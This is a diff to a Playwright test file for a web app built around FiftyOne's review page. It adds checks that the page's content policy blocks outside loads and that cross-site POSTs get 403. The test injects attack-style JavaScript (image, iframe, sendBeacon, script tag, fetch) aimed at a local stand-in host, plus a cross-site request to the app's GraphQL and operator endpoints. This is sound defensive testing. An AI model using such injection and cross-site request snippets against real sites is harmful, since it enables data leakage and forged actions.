@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import http.server
 import os
 import re
 import shutil
@@ -131,9 +132,23 @@ def wait_for(what: Callable[[], bool], seconds: float = 120) -> None:
         time.sleep(0.5)
 
 
-def test_a_person_can_look_at_a_finding_and_tag_an_image(app: App, page: Any, tmp_path: Path) -> None:
+def elsewhere(page: Any) -> tuple[set[str], set[str]]:
+    """Hosts elsewhere that a page asks for from now on, and those of them that the page's policy does not stop."""
     asked: set[str] = set()
-    page.on("request", lambda request: asked.add(urlsplit(request.url).hostname or ""))
+    let_through: set[str] = set()
+
+    def note(request: Any, hosts: set[str]) -> None:
+        if (name := urlsplit(request.url).hostname) not in (None, "127.0.0.1"):
+            hosts.add(name)
+
+    page.on("request", lambda request: note(request, asked))
+    page.on("response", lambda response: note(response.request, let_through))
+    page.on("requestfailed", lambda request: request.failure == "csp" or note(request, let_through))
+    return asked, let_through
+
+
+def test_a_person_can_look_at_a_finding_and_tag_an_image(app: App, page: Any, tmp_path: Path) -> None:
+    asked, let_through = elsewhere(page)
     page.goto(app.url)
     n_shown(page, 12)  # it opens on the worst finding: all bunnies
     playwright.expect(page.get_by_test_id("looker")).to_have_count(12)
@@ -165,8 +180,64 @@ def test_a_person_can_look_at_a_finding_and_tag_an_image(app: App, page: Any, tm
     findings.get_by_role("button", name="Accept").click()
     wait_for(lambda: any("accept" in tags for tags in tags_in(app).values()))
     assert [name for name, tags in tags_in(app).items() if "accept" in tags] == ["white 004.jpg"]
-    # FiftyOne's page asks for two web fonts; usage data would go to other hosts.
-    assert asked <= {"127.0.0.1", "", "fonts.googleapis.com", "fonts.gstatic.com"}
+    # FiftyOne's page asks for a web font; usage data would go to other hosts. Nothing of it leaves the browser.
+    assert let_through == set()
+    assert asked <= {"fonts.googleapis.com", "fonts.gstatic.com"}
+
+
+@pytest.fixture
+def elsewhere_is_here() -> Iterator[tuple[str, list[str]]]:
+    """Another site, as far as a browser can tell, and the paths that were asked of it."""
+    heard: list[str] = []
+
+    class Site(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            heard.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+            self.wfile.write(b"a page")
+
+        def log_message(self, *_: Any) -> None:
+            pass
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://localhost:{server.server_port}", heard
+        server.shutdown()
+
+
+def test_the_page_loads_nothing_from_elsewhere_and_no_other_page_gives_orders(
+    app: App, page: Any, elsewhere_is_here: tuple[str, list[str]]
+) -> None:
+    site, heard = elsewhere_is_here
+    page.goto(app.url)
+    playwright.expect(page.get_by_test_id("looker").first).to_be_visible()
+    # What a name that is Markdown, or a stranger's plug-in, would do.
+    load = """async site => {
+        const image = new Image(); image.src = site + "/image"; document.body.append(image);
+        const frame = document.createElement("iframe"); frame.src = site + "/frame"; document.body.append(frame);
+        navigator.sendBeacon(site + "/beacon", "who");
+        const script = document.createElement("script"); script.src = site + "/script"; document.body.append(script);
+        const told = await fetch(site + "/fetch").then(() => "loaded", () => "refused");
+        await new Promise(after => setTimeout(after, 1000));
+        return told;
+    }"""
+    assert page.evaluate(load, site) == "refused"
+    assert heard == []
+
+    page.goto(f"{site}/page")
+    order = """async ([app, path]) => {
+        const body = JSON.stringify({query: "query { __typename }"});
+        await fetch(app + path, {method: "POST", mode: "no-cors", body}).catch(() => 0);
+    }"""
+    answers: list[tuple[str, int]] = []
+    page.on("response", lambda r: r.url.startswith(app.url) and answers.append((urlsplit(r.url).path, r.status)))
+    for path in ("/graphql", "/operators/execute", "/event"):
+        page.evaluate(order, [app.url, path])
+    wait_for(lambda: len(answers) == 3, 20)
+    assert answers == [(path, 403) for path in ("/graphql", "/operators/execute", "/event")]
+    assert "/page" in heard  # it was there all the time
 
 
 def test_an_audit_from_the_panel_opens_on_what_it_found_and_keeps_the_tags(app: App, page: Any, tmp_path: Path) -> None:
